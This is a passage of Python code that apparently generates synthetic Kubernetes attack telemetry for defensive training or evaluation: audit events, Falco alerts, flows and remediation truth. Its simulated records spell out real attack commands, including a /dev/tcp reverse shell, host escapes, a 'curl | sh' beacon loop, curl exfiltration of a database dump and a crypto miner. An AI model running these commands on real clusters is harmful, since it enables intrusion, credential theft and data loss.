            tactic="Discovery",
            techniques=("MS-TA9029", "T1613", "T1069.003", "T1087.004"),
            start=t,
            end=t + dt.timedelta(minutes=2),
            **ents,
        )
        w.act(
            actor,
            t,
            "create",
            "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
            resource="selfsubjectrulesreviews",
            group="authorization.k8s.io",
            code=201,
            step=sid,
        )
        for k, (uri, res, code) in enumerate(
            (
                ("/api/v1/pods", "pods", 403),
                ("/api/v1/namespaces/payments/pods", "pods", 200),
                ("/api/v1/nodes", "nodes", 403),
                ("/apis/rbac.authorization.k8s.io/v1/clusterroles", "clusterroles", 403),
                ("/api/v1/namespaces/shop/secrets", "secrets", 403),
            )
        ):
            w.act(
                actor,
                t + dt.timedelta(seconds=10 * (k + 1)),
                "list",
                uri,
                resource=res,
                code=code,
                step=sid,
                namespace=uri.split("/")[4] if "/namespaces/" in uri else None,
            )
        t = self.now(3)
        sid = w.step(
            "secret-read",
            "Payments database secret read",
            phase="Actions on Objectives",
            tactic="Credential Access",
            techniques=("MS-TA9025", "T1552.007"),
            start=t,
            end=t + dt.timedelta(seconds=30),
            secret="payments/db-credentials",
            **ents,
        )
        w.act(
            actor,
            t,
            "get",
            "/api/v1/namespaces/payments/secrets/db-credentials",
            resource="secrets",
            namespace="payments",
            name="db-credentials",
            step=sid,
        )
        w.must("rotate", "secret:payments/db-credentials", "the attacker read it")
        self.hop(self.sa_node(actor), "secret:payments/db-credentials")

    def escalate_exec_stronger(self) -> None:
        w, actor, api = self.w, self.actor, self.c.api
        assert actor is not None and api is not None
        t = self.now(1)
        sid = w.step(
            "exec",
            "Exec into the payments api pod; its token read",
            phase="Actions on Objectives",
            tactic="Lateral Movement",
            techniques=("MS-TA9006", "T1609", "MS-TA9016", "T1528"),
            start=t,
            end=t + dt.timedelta(minutes=1),
            namespace="payments",
            pod=api.name,
            user=actor.user,
        )
        w.act(
            actor,
            t,
            "create",
            f"/api/v1/namespaces/payments/pods/{api.name}/exec?command=sh&command=-c&command=cat%20%2Fvar%2Frun%2Fsecrets%2F"
            "kubernetes.io%2Fserviceaccount%2Ftoken&container=api&stdout=true",
            resource="pods",
            namespace="payments",
            name=api.name,
            subresource="exec",
            code=101,
            step=sid,
            stages=("RequestReceived", "ResponseStarted", "ResponseComplete"),
        )
        w.process(
            t + dt.timedelta(seconds=1),
            api,
            "/bin/sh",
            f'-c "cat {TOKEN_PATH}"',
            parent="/usr/bin/runc",
            step=sid,
            falco=("Terminal shell in container", "Notice", f"A shell was spawned in a container (k8s.pod={api.name})"),
        )
        w.reached(api, "exec")
        self.hop(self.sa_node(actor), f"pod:payments/{api.name}")
        self.hop(f"pod:payments/{api.name}", "sa:payments/payments-api")
        self.actor = w.pod_actor(api, source_ip=actor.source_ip)
        self.use_identity(self.actor)

    def escape(
        self,
        pod: Pod,
        how: str,
        techniques: tuple[str, ...],
        binary: str,
        args: str,
        falco: tuple[str, str, str] | None,
    ) -> None:
        w = self.w
        t = self.now(2)
        sid = w.step(
            "host-escape",
            f"Host escape from {pod.name}: {how}",
            phase="Exploitation",
            tactic="Privilege Escalation",
            techniques=techniques,
            start=t,
            end=t + dt.timedelta(minutes=1),
            namespace=pod.namespace,
            pod=pod.name,
            node=pod.node,
        )
        # some sensors lose the pod's metadata (a container id only): attribution must recover it
        bare = w.rng.random() < 0.4
        if bare:
            w.truth["container_ids"].append(
                {
                    "container_id": pod.container_id[:12],
                    "namespace": pod.namespace,
                    "pod": pod.name,
                    "note": "runtime event without pod metadata",
                }
            )
        w.process(t, pod, binary, args, step=sid, falco=falco, pod_metadata=not bare)
        self.node = pod.node
        self.foothold = pod
        self.hop(f"pod:{pod.namespace}/{pod.name}", f"node:{pod.node}")
        w.attack_entity(pod.node)
        w.must("preserve", f"node:{pod.node}", "the attacker held it: snapshot its disk before it is rebuilt")
        w.must("rebuild", f"node:{pod.node}", "the attacker escaped to the host")
        self.escapes.setdefault(
            pod.node, t
        )  # the first escape to a node: its co-tenants are exposed from then on (finish_truth)

    def escape_node(self) -> str:
        """Where the attacker's escape lands: usually a node that runs system components too."""
        w = self.w
        busy = sorted({p.node for p in (*self.c.dns, self.c.lb_controller, self.c.prometheus) if p is not None})
        return w.rng.choice(busy) if busy and w.rng.random() < 0.8 else w.rng.choice(w.layout.node_names)

    def escalate_privileged_nsenter(self) -> None:
        pod = self.attacker_pod(
            "kube-proxy-" + self.w.suffix(5),
            namespace="kube-system",
            image="docker.io/library/alpine:3.19",
            node=self.escape_node(),
            labels={"k8s-app": "kube-proxy"},
            privileged=True,
            host_pid=True,
            host_paths=("/",),
            step_name="Privileged hostPID pod named like a system pod",
            techniques=("MS-TA9018", "T1610", "T1611", "MS-TA9023", "T1036.005", "MS-TA9013"),
        )
        self.escape(
            pod,
            "nsenter into the host's namespaces",
            ("MS-TA9018", "T1611"),
            "/usr/bin/nsenter",
            "-t 1 -m -u -n -i -p /bin/bash",
            ("Launch Privileged Container", "Warning", f"Privileged container started (container={pod.name})"),
        )

    def escalate_hostpath_cron(self) -> None:
        pod = self.attacker_pod(
            "log-collector",
            namespace="default",
            image="docker.io/library/busybox:1.36",
            node=self.escape_node(),
            host_paths=("/etc",),
            step_name="Pod with the node's /etc mounted",
            techniques=("MS-TA9013", "T1611", "T1610"),
        )
        self.escape(
            pod,
            "a cron entry written into the node's /etc",
            ("MS-TA9013", "T1611", "T1053.003", "T1098", "MS-TA9007", "T1059"),
            "/bin/sh",
            f"-c \"echo '* * * * * root bash -i >& /dev/tcp/{self.c2}/443 0>&1' > /host/etc/cron.d/sync\"",
            ("Write below etc", "Error", "File below /etc opened for writing (file=/host/etc/cron.d/sync)"),
        )
        self.host_c2 = True

    def escalate_static_pod(self) -> None:
        self.static_pod()

    def static_pod(self) -> None:
        """A manifest written into the kubelet's folder: from the host the attacker holds, or
        from a pod that mounts the folder (which is itself a way onto the node)."""
        w = self.w
        name = "kube-scheduler-helper"
        manifest = f"/host/etc/kubernetes/manifests/{name}.yaml"
        write = (
            f'-c "cat > {manifest}"',
            ("Write below etc", "Error", f"File below /etc opened for writing (file={manifest})"),
        )
        if self.node is not None and self.foothold is not None and self.foothold.node == self.node:
            host, wrote = self.foothold, False
            t = self.now(2)
        else:
            host = self.attacker_pod(
                "node-debugger",
                namespace="default",
                image="docker.io/library/busybox:1.36",
                node=self.escape_node(),
                host_paths=("/etc/kubernetes",),
                step_name="Pod with the kubelet's manifest folder mounted",
                techniques=("MS-TA9013", "T1611", "T1610"),
            )
            self.escape(
                host,
                "a static pod manifest written into the kubelet's folder",
                ("MS-TA9017", "T1543", "T1611", "MS-TA9013"),
                "/bin/sh",
                write[0],
                write[1],
            )
            wrote, t = True, self.now(0.5)
        node = host.node
        sid = w.step(
            "static-pod",
            "A static pod started by the kubelet from the attacker's manifest",
            phase="Installation",
            tactic="Persistence",
            techniques=("MS-TA9017", "T1543"),
            start=t - dt.timedelta(seconds=30),
            end=t + dt.timedelta(minutes=2),
            node=node,
            namespace="kube-system",
            pod=f"{name}-{node}",
        )
        if not wrote:
            w.process(t, host, "/bin/sh", write[0], step=sid, falco=write[1])
        mirror = w.pod(
            "kube-system",
            name,
            "Node",
            node,
            "default",
            "docker.io/evilcorp/sched-helper:2",
            t + dt.timedelta(seconds=20),
            audit=False,
            host_network=True,
            annotations={"kubernetes.io/config.mirror": w.hex(32), "kubernetes.io/config.source": "file"},
        )
        w.audit_pod_start(mirror, step=sid)
        w.reached(mirror, "static pod")
        self.made.append(mirror)
        self.hop(f"node:{node}", f"pod:kube-system/{mirror.name}")
        w.must(
            "delete", f"pod:kube-system/{mirror.name}", "the attacker's static pod: remove its manifest from the node"
        )
        self.static = mirror

    def escalate_runtime_socket(self) -> None:
        pod = self.attacker_pod(
            "image-cache",
            namespace="default",
            image="docker.io/library/docker:26-cli",
            node=self.escape_node(),
            host_paths=("/run/containerd/containerd.sock",),
            step_name="Pod with the container runtime socket mounted",
            techniques=("MS-TA9013", "T1611", "T1610"),
        )
        self.escape(
            pod,
            "a privileged container started through the runtime socket",
            ("MS-TA9013", "MS-TA9018", "T1611", "T1610"),
            "/usr/local/bin/ctr",
            "-a /host/run/containerd/containerd.sock -n k8s.io run --privileged --mount type=bind,src=/,dst=/host,options=rbind "
            "docker.io/library/alpine:3.19 pwn sh",
            ("Launch Privileged Container", "Warning", "Container runtime socket used to start a privileged container"),
        )

    def escalate_release_agent(self) -> None:
        pod = self.attacker_pod(
            "metrics-probe",
            namespace="default",
            image="docker.io/library/ubuntu:24.04",
            node=self.escape_node(),
            capabilities=("SYS_ADMIN",),
            step_name="Pod with CAP_SYS_ADMIN",
            techniques=("MS-TA9018", "T1610", "T1611"),
        )
        self.escape(
            pod,
            "cgroup release_agent",
            ("MS-TA9018", "T1611"),
            "/bin/sh",
            '-c "mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && echo /cmd > /tmp/cg/release_agent"',
            (
                "Detect release_agent File Container Escapes",
                "Critical",
                "Detect an attempt to exploit a container escape using release_agent file",
            ),
        )

    def escalate_stronger_sa_pod(self) -> None:
        w = self.w
        pod = self.attacker_pod(
            "build-cache",
            namespace="ci",
            image="docker.io/library/alpine:3.19",
            sa="deployer",
            step_name="Pod created with the CI deployer's service account",
            techniques=("MS-TA9008", "T1610", "MS-TA9016", "T1528", "T1078.001"),
        )
        self.token_read(pod, self.now(1))
        self.foothold = pod
        self.actor = w.pod_actor(pod)
        self.use_identity(self.actor)

    def escalate_impersonation(self) -> None:
        w, actor = self.w, self.actor
        assert actor is not None
        t = self.now(1)
        sid = w.step(
            "impersonation",
            "Requests impersonating a cluster administrator",
            phase="Exploitation",
            tactic="Privilege Escalation",
            techniques=("T1078", "T1134", "T1548", "MS-TA9019"),
            start=t,
            end=t + dt.timedelta(minutes=1),
            user=actor.user,
            **({"source_ip": actor.source_ip} if actor.source_ip == self.attacker else {}),
        )
        w.act(
            actor,
            t,
            "list",
            "/api/v1/secrets",
            resource="secrets",
            impersonated="platform-admin@corp.example",
            step=sid,
        )
        w.act(
            actor,
            t + dt.timedelta(seconds=20),
            "get",
            "/api/v1/namespaces/kube-system/secrets/cloud-credentials",
            resource="secrets",
            namespace="kube-system",
            name="cloud-credentials",
            impersonated="platform-admin@corp.example",
            step=sid,
        )
        self.hop(self.sa_node(actor), "user:platform-admin@corp.example")
        w.must("rotate", "secret:kube-system/cloud-credentials", "read while impersonating an administrator")

    def escalate_csr(self) -> None:
        w, actor = self.w, self.actor
        assert actor is not None
        t = self.now(1)
        name = f"csr-{w.suffix(6)}"
        sid = w.step(
            "csr",
            "A client certificate requested, approved and used from outside",
            phase="Installation",
            tactic="Persistence",
            techniques=("T1649", "MS-TA9016", "T1528", "T1078"),
            start=t,
            end=t + dt.timedelta(minutes=6),
            user=actor.user,
        )
        body = {
            "apiVersion": "certificates.k8s.io/v1",
            "kind": "CertificateSigningRequest",
            "metadata": {"name": name},
            "spec": {
                "signerName": "kubernetes.io/kube-apiserver-client",
                "usages": ["client auth"],
                "request": csr_request("ops-backup", "system:masters", key=w.hex(64)),
            },
        }
        w.act(
            actor,
            t,
            "create",
            "/apis/certificates.k8s.io/v1/certificatesigningrequests",
            resource="certificatesigningrequests",
            name=name,
            group="certificates.k8s.io",
            code=201,
            request=body,
            level="Request",
            step=sid,
        )
        w.act(
            actor,
            t + dt.timedelta(seconds=15),
            "update",
            f"/apis/certificates.k8s.io/v1/certificatesigningrequests/{name}/approval",
            resource="certificatesigningrequests",
            subresource="approval",
            name=name,
            group="certificates.k8s.io",
            step=sid,
            request={"status": {"conditions": [{"type": "Approved", "status": "True", "reason": "ok"}]}},
            level="Request",
        )
        cert_user = "ops-backup"
        new = Actor(cert_user, self.attacker, None, None, groups=("system:masters", "system:authenticated"))
        w.act(new, t + dt.timedelta(minutes=5), "list", "/api/v1/secrets", resource="secrets", step=sid)
        self.hop(self.sa_node(actor), f"csr:{name}")  # the request, then the identity its certificate is
        self.hop(f"csr:{name}", f"user:{cert_user}")
        w.must(
            "rotate",
            f"user:{cert_user}",
            "a client certificate cannot be revoked: rotate the cluster CA or remove every grant of the name",
        )
        w.must("block", f"ip:{self.attacker}", "the certificate was used from it")
        w.attack_entity(cert_user, self.attacker)
        self.actor = new

    # persistence ---------------------------------------------------------------
    def create(
        self,
        sid: str,
        resource: str,
        group: str,
        body: dict[str, Any],
        *,
        namespace: str | None,
        name: str,
        t: dt.datetime,
    ) -> None:
        assert self.actor is not None
        prefix = f"/apis/{group}/v1" if group else "/api/v1"
        uri = f"{prefix}/namespaces/{namespace}/{resource}" if namespace else f"{prefix}/{resource}"
        self.w.act(
            self.actor,
            t,
            "create",
            uri,
            resource=resource,
            namespace=namespace,
            name=name,
            group=group,
            code=201,
            request=body,
            level="Request",
            step=sid,
        )

    def persist_cronjob(self) -> None:
        w = self.w
        t = self.now(1)
        name = "log-rotate"
        sid = w.step(
            "cronjob",
            "A CronJob from an outside image",
            phase="Installation",
            tactic="Persistence",
            techniques=("MS-TA9014", "T1053.007"),
            start=t,
            end=t + dt.timedelta(seconds=30),
            namespace="kube-system",
            workload=f"CronJob/{name}",
            **({"user": self.actor.user} if self.actor else {}),
        )
        body = {
            "kind": "CronJob",
            "apiVersion": "batch/v1",
            "metadata": {"name": name, "namespace": "kube-system"},
            "spec": {
                "schedule": "*/30 * * * *",
                "jobTemplate": {
                    "spec": {
                        "template": {
                            "spec": {
                                "serviceAccountName": "default",
                                "restartPolicy": "Never",
                                "containers": [
                                    {
                                        "name": "rotate",
                                        "image": "docker.io/evilcorp/xmr:latest",
                                        "args": ["-o", f"stratum+tcp://{self.pool}:3333"],
                                    }
                                ],
                            }
                        }
                    }
                },
            },
        }
        self.create(sid, "cronjobs", "batch", body, namespace="kube-system", name=name, t=t)
        self.hop(self.sa_node(self.actor), f"workload:kube-system/cronjobs/{name}")  # type: ignore[arg-type]
        w.must("delete", f"workload:kube-system/cronjobs/{name}", "the attacker's CronJob")
        self.miners_from = ("Job", name)
        w.attack_entity(f"kube-system/{name}", "CronJob/" + name)

    def persist_daemonset(self) -> None:
        w = self.w
        t = self.now(1)
        name = "node-cache"
        sid = w.step(
            "daemonset",
            "A privileged DaemonSet on every node",
            phase="Installation",
            tactic="Persistence",
            techniques=("MS-TA9012", "T1543", "MS-TA9018", "T1610", "T1611"),
            start=t,
            end=t + dt.timedelta(minutes=1),
            namespace="kube-system",
            workload=f"DaemonSet/{name}",
            **({"user": self.actor.user} if self.actor else {}),
        )
        body = {
            "kind": "DaemonSet",
            "apiVersion": "apps/v1",
            "metadata": {"name": name, "namespace": "kube-system"},
            "spec": {
                "selector": {"matchLabels": {"app": name}},
                "template": {
                    "metadata": {"labels": {"app": name}},
                    "spec": {
                        "hostPID": True,
                        "containers": [
                            {
                                "name": "cache",
                                "image": "docker.io/evilcorp/node-cache:1",
                                "securityContext": {"privileged": True},
                            }
                        ],
                    },
                },
            },
        }
        self.create(sid, "daemonsets", "apps", body, namespace="kube-system", name=name, t=t)
        self.hop(self.sa_node(self.actor), f"workload:kube-system/daemonsets/{name}")  # type: ignore[arg-type]
        w.must("delete", f"workload:kube-system/daemonsets/{name}", "the attacker's DaemonSet")
        for k, node in enumerate(w.layout.node_names):
            p = w.pod(
                "kube-system",
                name,
                "DaemonSet",
                node,
                "default",
                "docker.io/evilcorp/node-cache:1",
                t + dt.timedelta(seconds=10 + k),
                labels={"app": name},
                privileged=True,
                host_pid=True,
            )
            w.reached(p, "created")
            self.made.append(p)
        self.miners_from = ("DaemonSet", name)
        w.attack_entity(f"kube-system/{name}")

    def persist_static_pod(self) -> None:
        self.static_pod()

    def persist_webhook(self) -> None:
        w = self.w
        t = self.now(1)
        name = "pod-policy.corp-admission.io"
        sid = w.step(
            "webhook",
            "A mutating admission webhook pointing outside",
            phase="Installation",
            tactic="Persistence",
            techniques=("MS-TA9015", "T1546", "T1098"),
            start=t,
            end=t + dt.timedelta(seconds=30),
            webhook=name,
            destination_ip=self.c2,
            **({"user": self.actor.user} if self.actor else {}),
        )
        body = {
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": name},
            "webhooks": [
                {
                    "name": name,
                    "clientConfig": {"url": f"https://{self.c2}/mutate"},
                    "rules": [
                        {"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}
                    ],
                    "admissionReviewVersions": ["v1"],
                    "sideEffects": "None",
                    "failurePolicy": "Ignore",
                }
            ],
        }
        self.create(
            sid, "mutatingwebhookconfigurations", "admissionregistration.k8s.io", body, namespace=None, name=name, t=t
        )
        self.hop(self.sa_node(self.actor), f"webhook:{name}")  # type: ignore[arg-type]
        w.must("delete", f"webhook:{name}", "the attacker's admission webhook")
        w.must("block", f"ip:{self.c2}", "the attacker's webhook endpoint")
        w.attack_entity(name, self.c2)

    def persist_cluster_admin_binding(self) -> None:
        w = self.w
        t = self.now(1)
        sa, name = "backup-operator", "system:backup-operators"
        sid = w.step(
            "cluster-admin-binding",
            "A new service account bound to cluster-admin",
            phase="Installation",
            tactic="Persistence",
            techniques=("MS-TA9019", "T1078.003", "T1098", "T1136"),
            start=t,
            end=t + dt.timedelta(minutes=1),
            service_account=f"kube-system/{sa}",
            **({"user": self.actor.user} if self.actor else {}),
        )
        self.create(
            sid,
            "serviceaccounts",
            "",
            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": sa, "namespace": "kube-system"}},
            namespace="kube-system",
            name=sa,
            t=t,
        )
        crb = {
            "kind": "ClusterRoleBinding",
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [{"kind": "ServiceAccount", "name": sa, "namespace": "kube-system"}],
        }
        self.create(
            sid,
            "clusterrolebindings",
            "rbac.authorization.k8s.io",
            crb,
            namespace=None,
            name=name,
            t=t + dt.timedelta(seconds=10),
        )
        self.hop(self.sa_node(self.actor), f"binding:{name}")  # type: ignore[arg-type]
        w.must("delete", f"binding:{name}", "the attacker's cluster-admin binding")
        w.must("delete", f"sa:kube-system/{sa}", "the attacker's service account")
        w.attack_entity(name, f"kube-system/{sa}")

    def persist_token_secret(self) -> None:
        w = self.w
        t = self.now(1)
        sa, name = "deployer", "deployer-token-keep"
        sid = w.step(
            "token-secret",
            "A long-lived token Secret for the CI deployer, used from outside",
            phase="Installation",
            tactic="Persistence",
            techniques=("MS-TA9016", "T1528", "T1098.001", "T1550.001"),
            start=t,
            end=t + dt.timedelta(minutes=8),
            secret=f"ci/{name}",
            service_account=f"ci/{sa}",
            **({"user": self.actor.user} if self.actor else {}),
        )
        body = {
            "apiVersion": "v1",
            "kind": "Secret",
            "type": "kubernetes.io/service-account-token",
            "metadata": {"name": name, "namespace": "ci", "annotations": {"kubernetes.io/service-account.name": sa}},
        }
        self.create(sid, "secrets", "", body, namespace="ci", name=name, t=t)
        self.w.act(
            self.actor,
            t + dt.timedelta(seconds=5),
            "get",
            f"/api/v1/namespaces/ci/secrets/{name}",
            resource="secrets",
            namespace="ci",  # type: ignore[arg-type]
            name=name,
            step=sid,
        )
        used = Actor(
            f"system:serviceaccount:ci:{sa}",
            self.attacker,
            None,
            {"authentication.kubernetes.io/credential-id": [f"JTI={w.hex(32)}"]},
            groups=("system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"),
        )
        w.act(
            used,
            t + dt.timedelta(minutes=7),
            "list",
            "/apis/apps/v1/deployments",
            resource="deployments",
            group="apps",
            step=sid,
        )
        self.hop(self.sa_node(self.actor), f"secret:ci/{name}")  # type: ignore[arg-type]
        self.hop(f"secret:ci/{name}", f"sa:ci/{sa}")
        w.must("delete", f"secret:ci/{name}", "a legacy token Secret lives until it is deleted")
        w.must("rotate", f"sa:ci/{sa}", "its token was used from outside")
        w.must("block", f"ip:{self.attacker}", "the token was used from it")
        w.attack_entity(f"ci/{sa}", f"ci/{name}", self.attacker)

    def persist_backdoor_image(self) -> None:
        w = self.w
        t = self.now(1)
        image = "docker.io/evilcorp/web:1.8.2"
        sid = w.step(
            "backdoor-image",
            "The web Deployment switched to a backdoored image",
            phase="Installation",
            tactic="Persistence",
            techniques=("MS-TA9002", "T1525", "MS-TA9011", "T1610"),
            start=t,
            end=t + dt.timedelta(minutes=2),
            namespace="shop",
            workload="Deployment/web",
            **({"user": self.actor.user} if self.actor else {}),
        )
        patch = {"spec": {"template": {"spec": {"containers": [{"name": "web", "image": image}]}}}}
        w.act(
            self.actor,
            t,
            "patch",
            "/apis/apps/v1/namespaces/shop/deployments/web",
            resource="deployments",
            namespace="shop",
            name="web",  # type: ignore[arg-type]
            group="apps",
            request=patch,
            level="Request",
            step=sid,
        )
        for k, p in enumerate([p for p in self.c.web if p.deleted is None][:2]):
            q = w.pod("shop", "web", "Deployment", p.node, "web", image, t + dt.timedelta(seconds=20 + 20 * k))
            w.reached(q, "backdoored image")
            self.made.append(q)
        w.must(
            "redeploy", "workload:shop/Deployment/web", "it runs the attacker's image: roll back to the last good one"
        )
        w.attack_entity("shop/web")

    # objectives and C2 ---------------------------------------------------------------
    def beacon_source(self) -> Pod | str:
        """What talks to C2: the static pod or a node the attacker holds, else their pod."""
        if self.static is not None:
            return self.static
        if self.host_c2 and self.node is not None:
            return self.w.nodes[self.node]
        return self.need_pod()

    def c2_beacons(self) -> None:
        w = self.w
        src = self.beacon_source()
        if isinstance(src, str) and w.platform == "self-managed":
            # the node's own traffic: no flow log here sees it; the cron entry that runs it names the address
            w.must("block", f"ip:{self.c2}", "command and control (the reverse shell in the node's crontab)")
            w.attack_entity(self.c2)
            return
        t = self.now(2)
        label = src if isinstance(src, str) else f"{src.namespace}/{src.name}"
        ents: dict[str, Any] = {"destination_ip": self.c2}
        if isinstance(src, Pod):
            # translated to the node's address on the way out: a VPC flow log names only the node
            ents.update(namespace=src.namespace, pod=src.name, node=src.node, node_ip=src.host_ip)
        else:
            ents.update(node=self.node)
        sid = w.step(
            "c2",
            f"Command-and-control beacons from {label}",
            phase="Command & Control",
            tactic="Command and Control",
            techniques=("T1071", "T1071.001", "T1573", "MS-TA9007", "T1105", "T1059"),
            start=t - dt.timedelta(seconds=30),
            end=t + dt.timedelta(minutes=25),
            **ents,
        )
        if isinstance(src, Pod):  # the implant's loop, as a runtime sensor sees it start
            w.process(
                t - dt.timedelta(seconds=20),
                src,
                "/bin/sh",
                f'-c "while :; do curl -fsk https://{self.c2}/t | sh; sleep 300; done"',
                parent="/usr/bin/containerd-shim",
                step=sid,
                falco=(
                    "Launch Ingress Remote File Copy Tools in Container",
                    "Notice",
                    f"Remote file copy tool launched (k8s.pod={src.name})",
                ),
            )
        for k in range(6):
            tk = t + dt.timedelta(minutes=5 * k, seconds=w.rng.uniform(0, 3))
            if isinstance(src, Pod):
                w.flow(tk, src, self.c2, 443, step=sid)
            else:
                w.emitted.flows.append(
                    Flow(tk + w.skew["flows"], src, self.c2, w.rng.randrange(32768, 60999), 443, src_host=src, step=sid)
                )
        w.must("block", f"ip:{self.c2}", "command and control")
        w.attack_entity(self.c2)
        if w.platform != "self-managed" or (isinstance(src, Pod) and not src.host_network):
            self.hop(
                self.flow_origin(src), f"ip:{self.c2}"
            )  # else no flow log sees it: a CNI log holds pod traffic only

    def flow_origin(self, src: Pod | str) -> str:
        """The graph node a flow from ``src`` can be pinned to: the pod when a CNI flow log names
        it, else its node (translated or host-network traffic carries only the node's address)."""
        if isinstance(src, Pod):
            if self.w.layout.cni is not None and not src.host_network:
                return f"pod:{src.namespace}/{src.name}"
            return f"node:{src.node}"
        return f"node:{next(n for n, ip in self.w.nodes.items() if ip == src)}"

    def objective_secret_dump(self) -> None:
        w, actor = self.w, self.actor
        assert actor is not None
        t = self.now(1)
        names = ["db-credentials", "stripe-api-key", "tls-payments"]
        sid = w.step(
            "secret-dump",
            "Secrets dumped",
            phase="Actions on Objectives",
            tactic="Credential Access",
            techniques=("MS-TA9025", "T1552.007"),
            start=t,
            end=t + dt.timedelta(minutes=1),
            user=actor.user,
            **({"service_account": actor.sa} if actor.sa else {}),
        )
        w.act(
            actor, t, "list", "/api/v1/namespaces/payments/secrets", resource="secrets", namespace="payments", step=sid
        )
        for k, n in enumerate(names):
            w.act(
                actor,
                t + dt.timedelta(seconds=5 + k),
                "get",
                f"/api/v1/namespaces/payments/secrets/{n}",
                resource="secrets",
                namespace="payments",
                name=n,
                step=sid,
            )
            w.must("rotate", f"secret:payments/{n}", "the attacker read it")
        self.hop(self.sa_node(actor), "secret:payments/db-credentials")

    def objective_db_exfil(self) -> None:
        w, db = self.w, self.c.db
        assert db is not None
        src = self.need_pod()
        t = self.now(1)
        sid = w.step(
            "exfiltration",
            "Database dumped and sent outside",
            phase="Actions on Objectives",
            tactic="Exfiltration",
            techniques=("T1041", "T1048", "T1567", "MS-TA9034", "T1210", "MS-TA9007", "T1059"),
            start=t,
            end=t + dt.timedelta(minutes=4),
            namespace=src.namespace,
            pod=src.name,
            node=src.node,
            node_ip=src.host_ip,
            destination_ip=self.drop,
        )
        w.process(t, src, "/usr/bin/pg_dump", f"-h {db.ip} -U app payments", step=sid)
        w.flow(t + dt.timedelta(seconds=1), src, db, 5432, step=sid, size=40_000)
        w.process(
            t + dt.timedelta(minutes=2),
            src,
            "/usr/bin/curl",
            f"-T /tmp/dump.sql https://{self.drop}/u",
            step=sid,
            falco=(
                "Launch Ingress Remote File Copy Tools in Container",
                "Notice",
                f"Remote file copy tool launched (k8s.pod={src.name})",
            ),
        )
        w.flow(t + dt.timedelta(minutes=2, seconds=1), src, self.drop, 443, step=sid, size=180_000_000)
        w.must("block", f"ip:{self.drop}", "the data went to it")
        w.attack_entity(self.drop)
        self.hop(self.flow_origin(src), f"ip:{self.drop}")

    def objective_mining(self) -> None:
        w = self.w
        t = self.now(2)
        origin = self.miners_from
        miners: list[Pod] = []
        if origin and origin[0] == "Job":
            for k in range(3):
                tk = self.now(30) if k else t
                job = f"{origin[1]}-{int(tk.timestamp() // 60)}"
                p = w.pod(
                    "kube-system",
                    job,
                    "Job",
                    w.rng.choice(w.layout.node_names),
                    "default",
                    "docker.io/evilcorp/xmr:latest",
                    tk,
                )
                w.reached(p, "created")
                self.made.append(p)
                miners.append(p)
        elif origin and origin[0] == "DaemonSet":
            miners = [p for p in self.made if p.name.startswith(origin[1])][:2]
        else:
            miners = [self.need_pod()]
        end = w.at(self.t + 12)
        workload = f"{origin[0] if origin[0] != 'Job' else 'CronJob'}/{origin[1]}" if origin else None
        sid = w.step(
            "mining",
            "Cryptomining",
            phase="Actions on Objectives",
            tactic="Impact",
            techniques=("MS-TA9039", "T1496"),
            start=t,
            end=end,
            destination_ip=self.pool,
            namespace=miners[0].namespace,
            pod=miners[0].name,
            node_ips=sorted({p.host_ip for p in miners}),
            **({"workload": workload} if workload else {}),
        )
        for p in miners:
            start = max(t, p.created + dt.timedelta(seconds=5))
            w.process(
                start,
                p,
                "/usr/local/bin/xmrig",
                f"-o stratum+tcp://{self.pool}:3333 --donate-level 1",
                parent="/usr/bin/containerd-shim",
                step=sid,
                falco=(
                    "Detect crypto miners using the Stratum protocol",
                    "Critical",
                    f"Cryptominer started (k8s.pod={p.name})",
                ),
            )
            for j in range(3):
                w.flow(start + dt.timedelta(seconds=10 + 60 * j), p, self.pool, 3333, step=sid)
        w.must("block", f"ip:{self.pool}", "the mining pool")
        w.attack_entity(self.pool)
        self.t += 12

    def objective_destruction(self) -> None:
        w, actor = self.w, self.actor
        assert actor is not None
        t = self.now(2)
        sid = w.step(
            "destruction",
            "Workloads and volumes deleted",
            phase="Actions on Objectives",
            tactic="Impact",
            techniques=("MS-TA9038", "MS-TA9040", "T1485", "T1489"),
            start=t,
            end=t + dt.timedelta(minutes=1),
            user=actor.user,
            namespace="payments",
        )
        for k, (res, name, group) in enumerate(
            (
                ("deployments", "api", "apps"),
                ("persistentvolumeclaims", "data-postgres-0", ""),
                ("services", "api", ""),
                ("configmaps", "api-config", ""),
                ("secrets", "tls-payments", ""),
            )
        ):
            prefix = f"/apis/{group}/v1" if group else "/api/v1"
            w.act(
                actor,
                t + dt.timedelta(seconds=3 * k),
                "delete",
                f"{prefix}/namespaces/payments/{res}/{name}",
                resource=res,
                namespace="payments",
                name=name,
                group=group,
                step=sid,
            )

    # cover-ups ---------------------------------------------------------------
    def cover_events_deleted(self) -> None:
        w, actor = self.w, self.actor
        assert actor is not None
        t = self.now(1)
        sid = w.step(
            "cover-tracks",
            "Events deleted",
            phase="Installation",
            tactic="Defense Evasion",
            techniques=("MS-TA9022", "T1070"),
            start=t,
            end=t + dt.timedelta(seconds=30),
            user=actor.user,
            namespace="kube-system",
        )
        w.act(
            actor,
            t,
            "deletecollection",
            "/api/v1/namespaces/kube-system/events",
            resource="events",
            namespace="kube-system",
            step=sid,
        )
        w.act(
            actor,
            t + dt.timedelta(seconds=5),
            "deletecollection",
            "/api/v1/namespaces/default/events",
            resource="events",
            namespace="default",
            step=sid,
        )

    def cover_logging_tampered(self) -> None:
        w, actor = self.w, self.actor
        assert actor is not None
        t = self.now(1)
        sid = w.step(
            "cover-tracks",
            "The logging agent removed",
            phase="Installation",
            tactic="Defense Evasion",
            techniques=("MS-TA9021", "T1562.001", "T1070", "T1562", "MS-TA9022"),
            start=t,
            end=t + dt.timedelta(minutes=1),
            user=actor.user,
            namespace="logging",
        )
        w.act(
            actor,
            t,
            "delete",
            "/apis/apps/v1/namespaces/logging/daemonsets/fluent-bit",
            resource="daemonsets",
            namespace="logging",
            name="fluent-bit",
            group="apps",
            step=sid,
        )
        for k, p in enumerate(w.live(t, "logging")):
            w.delete_pod(
